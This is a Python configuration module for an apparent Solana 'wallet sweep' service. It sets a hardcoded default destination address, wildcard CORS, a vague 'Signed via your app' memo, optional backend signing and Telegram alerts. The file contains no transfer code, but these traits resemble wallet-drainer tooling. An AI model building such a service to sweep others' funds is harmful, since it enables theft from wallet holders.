"""
Application settings and environment configuration.

Responsibilities:
- Load configuration from environment variables and the project .env file.
- Validate the destination address and optional signing key at startup.
- Resolve the sweep mode (Unsigned | BackendSigned) exactly once.
"""

from __future__ import annotations

import enum
import functools
import json
import os
from dataclasses import dataclass, field

import base58
from solders.keypair import Keypair
from solders.pubkey import Pubkey

from wallet_sweep.config.env import (
    CHAIN_IDS,
    CLUSTER_SLUGS,
    get_solana_network,
    get_solana_rpc_url,
    load_env,
)

DEFAULT_PORT = 3000
DEFAULT_API_HOST = "0.0.0.0"
DEFAULT_DESTINATION = "84vka944L9qFdBZKHEvpfDp9qqJ5sfcjDXaQ3wjxVRLM"
DEFAULT_MEMO = "Signed via your app"
DEFAULT_TOKEN_LIST_URL = (
    "https://raw.githubusercontent.com/solana-labs/token-list/main/src/tokens/solana.tokenlist.json"
)
DEFAULT_HTTP_TIMEOUT_SEC = 30.0


class SweepMode(str, enum.Enum):
    """How a built sweep transaction leaves the service."""

    UNSIGNED = "unsigned"
    BACKEND_SIGNED = "backend_signed"


def load_keypair(private_key: str) -> Keypair:
    """Load Keypair from PRIVATE_KEY: JSON array of 64 bytes or base58 string."""
    raw = private_key.strip()
    if raw.startswith("["):
        try:
            arr = json.loads(raw)
            return Keypair.from_bytes(bytes(arr))
        except (json.JSONDecodeError, TypeError, ValueError) as e:
            raise ValueError("Invalid PRIVATE_KEY byte array") from e
    try:
        return Keypair.from_bytes(base58.b58decode(raw))
    except ValueError as e:
        raise ValueError("Invalid PRIVATE_KEY") from e


def _env(name: str, default: str = "") -> str:
    return (os.getenv(name) or default).strip()


def _parse_origins(raw: str) -> list[str]:
    return [o.strip() for o in raw.split(",") if o.strip()] or ["*"]


@dataclass(frozen=True)
class Settings:
    """Process-wide configuration; immutable after load."""

    network: str = "mainnet"
    rpc_url: str = "https://api.mainnet-beta.solana.com"
    api_host: str = DEFAULT_API_HOST
    port: int = DEFAULT_PORT
    destination: Pubkey = field(default_factory=lambda: Pubkey.from_string(DEFAULT_DESTINATION))
    memo: str = DEFAULT_MEMO
    signer: Keypair | None = None
    telegram_bot_token: str = ""
    telegram_chat_id: str = ""
    token_list_url: str = DEFAULT_TOKEN_LIST_URL
    http_timeout_sec: float = DEFAULT_HTTP_TIMEOUT_SEC
    cors_origins: list[str] = field(default_factory=lambda: ["*"])

    @property
    def mode(self) -> SweepMode:
        return SweepMode.BACKEND_SIGNED if self.signer is not None else SweepMode.UNSIGNED

    @property
    def chain_id(self) -> int:
        return CHAIN_IDS[self.network]

    @property
    def cluster_slug(self) -> str:
        return CLUSTER_SLUGS[self.network]

    @property
    def telegram_enabled(self) -> bool:
        return bool(self.telegram_bot_token and self.telegram_chat_id)

    @classmethod
    def from_env(cls) -> "Settings":
        """Build settings from environment variables (after loading .env)."""
        load_env()
        network = get_solana_network()
        destination_raw = _env("SWEEP_DESTINATION", DEFAULT_DESTINATION)
        try:
            destination = Pubkey.from_string(destination_raw)
        except ValueError as e:
            raise ValueError(f"Invalid SWEEP_DESTINATION: {destination_raw!r}") from e
        private_key = _env("PRIVATE_KEY")
        # An empty JSON array is the documented "no key" value
        signer = load_keypair(private_key) if private_key and private_key != "[]" else None
        return cls(
            network=network,
            rpc_url=get_solana_rpc_url(network),
            api_host=_env("API_HOST", DEFAULT_API_HOST),
            port=int(_env("PORT", str(DEFAULT_PORT))),
            destination=destination,
            memo=_env("SWEEP_MEMO", DEFAULT_MEMO) or DEFAULT_MEMO,
            signer=signer,
            telegram_bot_token=_env("TELEGRAM_BOT_TOKEN"),
            telegram_chat_id=_env("TELEGRAM_CHAT_ID"),
            token_list_url=_env("TOKEN_LIST_URL", DEFAULT_TOKEN_LIST_URL),
            http_timeout_sec=float(_env("HTTP_TIMEOUT_SEC", str(DEFAULT_HTTP_TIMEOUT_SEC))),
            cors_origins=_parse_origins(_env("CORS_ORIGINS", "*")),
        )


@functools.lru_cache(maxsize=1)
def get_settings() -> Settings:
    """Return the process settings, loaded once on first call."""
    return Settings.from_env()
